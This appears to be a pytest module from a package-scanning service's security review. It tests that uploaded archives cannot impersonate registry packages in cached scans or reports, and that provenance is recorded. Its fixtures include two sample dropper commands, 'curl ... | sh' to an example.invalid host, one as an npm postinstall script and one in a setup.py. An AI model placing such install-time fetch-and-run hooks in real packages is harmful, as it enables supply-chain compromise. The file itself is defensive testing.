"""Provenance (second security review, H2 and H3), through nginx, the api role and a real
worker, against the real registries: an upload can neither answer for the registry's package
from the cache nor stand in for its report, and every report says where its bytes came from.

The archives here are built by the tests from harmless strings (URLs under example.invalid);
the registry artifacts are fetched as bytes and never installed or run."""

from __future__ import annotations

import io
import json
import tarfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from package_analysis.analysis import ecosystems, fetch
from package_analysis.analysis.purl import purl_parse
from package_analysis.models import ArtifactScan, Job
from package_analysis.worker import Worker

from . import test_security_web as web
from .test_security_web import Stack

stack_factory = web.stack_factory  # the api and web roles (nginx), as the review ran them
stack = web.stack

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.slow]

DROPPER_JSON = {
    "name": "loader-demo",
    "version": "1.0.2",
    "scripts": {"postinstall": "curl -s http://example.invalid/x.sh | sh"},
}


def tgz(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def registry_bytes(purl: str, tmp: Path) -> tuple[str, bytes]:
    """The artifact the registry serves for a purl (its first file), as bytes."""
    deadline = time.monotonic() + 120
    resolved = ecosystems.resolve(purl_parse(purl), deadline=deadline)
    remote = resolved.files[0]
    artifact = fetch.download(remote, tmp, max_bytes=100 << 20, deadline=deadline)
    assert artifact.path is not None
    return remote.filename, artifact.path.read_bytes()


def run_worker() -> None:
    assert Worker(name="w-provenance", burst=True, handle_signals=False).work() == 0


def upload(s: Stack, data: bytes, name: str, ecosystem: str) -> str:
    r = httpx.post(
        f"{s.web}/api/analyze/upload",
        files={"file": (name, data)},
        data={"ecosystem": ecosystem},
        timeout=60,
    )
    assert r.status_code == 202, r.text
    return str(r.json()["id"])


def dispatch(s: Stack, purl: str, *, force: bool = False) -> str:
    body = {"task": "analyze", "params": {"purl": purl, "force": force}}
    r = httpx.post(f"{s.web}/api/dispatch", json=body, timeout=30)
    assert r.status_code == 202, r.text
    return str(r.json()["id"])


def result(s: Stack, job_id: str) -> dict[str, Any]:
    job = httpx.get(f"{s.web}/api/jobs/{job_id}", timeout=30).json()
    assert job["status"] == "completed", job["error"]
    return job["result"]  # type: ignore[no-any-return]


REGISTRY = {"source": "registry", "verified": True, "claimed": False, "filename": None}


def registry_provenance(res: dict[str, Any]) -> dict[str, Any]:
    prov = dict(res["provenance"])
    assert prov.pop("registry"), prov  # the index the bytes came through
    return prov


def test_an_upload_relabelled_with_another_ecosystem_never_answers_for_the_registry(
    stack: Stack, tmp_path: Path
) -> None:
    # H2: the registry's own npm tarball, uploaded first and labelled pypi.
    name, data = registry_bytes("pkg:npm/is-number@7.0.0", tmp_path)
    attacker = upload(stack, data, name, "pypi")
    run_worker()
    assert result(stack, attacker)["provenance"]["source"] == "upload"

    victim = dispatch(stack, "pkg:npm/is-number@7.0.0")
    run_worker()
    answer = result(stack, victim)
    assert answer["cached"] is False  # scanned, not answered from the upload
    assert registry_provenance(answer) == REGISTRY
    again = dispatch(stack, "pkg:npm/is-number@7.0.0")
    run_worker()
    assert result(stack, again)["cached"] is True  # the registry's own scan answers it
    keys = set(ArtifactScan.objects.values_list("source", "ecosystem", "package", "job_id"))
    sha = answer["artifacts"][0]["sha256"]
    assert keys == {
        ("upload", "pypi", "pkg:pypi/is-number@7.0.0", Job.objects.get(id=attacker).id),
        ("registry", "npm", "pkg:npm/is-number@7.0.0", Job.objects.get(id=victim).id),
    }
    assert set(ArtifactScan.objects.values_list("sha256", flat=True)) == {sha}


def test_the_same_bytes_under_another_ecosystem_are_scanned_again(stack: Stack) -> None:
    # The scan depends on the ecosystem: npm install scripts are install-time code.
    data = tgz({"package/package.json": json.dumps(DROPPER_JSON).encode()})
    as_pypi = upload(stack, data, "loader-demo-1.0.2.tgz", "pypi")
    run_worker()
    as_npm = upload(stack, data, "loader-demo-1.0.2.tgz", "npm")
    run_worker()
    pypi, npm = result(stack, as_pypi), result(stack, as_npm)
    assert (pypi["cached"], npm["cached"]) == (False, False)
    assert npm["package"]["purl"] == "pkg:npm/loader-demo@1.0.2"
    assert npm["verdict"] != "clean" and npm["findings"] > pypi["findings"]


def test_a_forced_analysis_replaces_the_cached_row(stack: Stack) -> None:
    first = dispatch(stack, "pkg:npm/is-number@7.0.0")
    run_worker()
    forced = dispatch(stack, "pkg:npm/is-number@7.0.0", force=True)
    run_worker()
    assert result(stack, forced)["cached"] is False
    (row,) = ArtifactScan.objects.all()
    assert str(row.job_id) == forced != first
    later = dispatch(stack, "pkg:npm/is-number@7.0.0")
    run_worker()
    assert result(stack, later)["cached"] is True


def test_a_lockfile_job_is_never_answered_from_an_upload(stack: Stack, tmp_path: Path) -> None:
    # H2 via the PyPI path: the published sha256 is looked up before any download.
    name, data = registry_bytes("pkg:pypi/idna@3.7", tmp_path)
    attacker = upload(stack, data, name, "npm")
    run_worker()
    r = httpx.post(
        f"{stack.web}/api/analyze/lockfile",
        files={"file": ("requirements.txt", b"idna==3.7\n")},
        timeout=60,
    )
    assert r.status_code == 202, r.text
    (item,) = r.json()["items"]
    run_worker()
    answer = result(stack, item["id"])
    assert answer["cached"] is False and registry_provenance(answer) == REGISTRY
    assert result(stack, attacker)["provenance"]["source"] == "upload"


CLAIMS_IDNA = b"Metadata-Version: 2.1\nName: idna\nVersion: 3.7\n"
DEFAME_SETUP = (
    b"import os\nfrom setuptools import setup\n"
    b"os.system('curl -s http://example.invalid/x.sh | sh')\nsetup(name='idna', version='3.7')\n"
)


def test_reports_by_purl_answer_from_the_registry_unless_uploads_are_asked_for(
    stack: Stack,
) -> None:
    # H3: a registry analysis, then an upload whose PKG-INFO claims the same name and version.
    real = dispatch(stack, "pkg:pypi/idna@3.7")
    run_worker()
    fake = upload(
        stack,
        tgz({"idna-3.7/PKG-INFO": CLAIMS_IDNA, "idna-3.7/setup.py": DEFAME_SETUP}),
        "idna-3.7.tar.gz",
        "pypi",
    )
    run_worker()
    claimed = result(stack, fake)
    assert claimed["package"]["purl"] == "pkg:pypi/idna@3.7" and claimed["verdict"] != "clean"
    assert claimed["provenance"] == {
        "source": "upload", "registry": None, "verified": False, "claimed": True,
        "filename": "idna-3.7.tar.gz",
    }  # fmt: skip

    def latest(**params: str) -> httpx.Response:
        return httpx.get(f"{stack.web}/api/reports", params=params, timeout=30)

    for purl in ("pkg:pypi/idna@3.7", "pkg:pypi/idna"):
        answer = latest(purl=purl)
        assert answer.status_code == 200, answer.text
        assert answer.json()["job"] == real and answer.json()["verdict"] == "clean"
        assert registry_provenance(answer.json()) == REGISTRY
    sarif = latest(purl="pkg:pypi/idna@3.7", format="sarif").json()
    assert sarif["runs"][0]["properties"]["provenance"]["source"] == "registry"

    with_uploads = latest(purl="pkg:pypi/idna@3.7", uploads="true").json()
    assert with_uploads["job"] == fake and with_uploads["provenance"]["claimed"] is True


def test_only_uploads_claim_a_name_and_by_default_there_is_no_report(
    stack_factory: Callable[..., Stack],
) -> None:
    s = stack_factory()
    fake = upload(s, tgz({"idna-3.7/PKG-INFO": CLAIMS_IDNA}), "idna-3.7.tar.gz", "pypi")
    run_worker()
    assert result(s, fake)["provenance"]["source"] == "upload"
    r = httpx.get(f"{s.web}/api/reports", params={"purl": "pkg:pypi/idna@3.7"}, timeout=30)
    assert r.status_code == 404 and r.json()["error"]["code"] == "not_found"
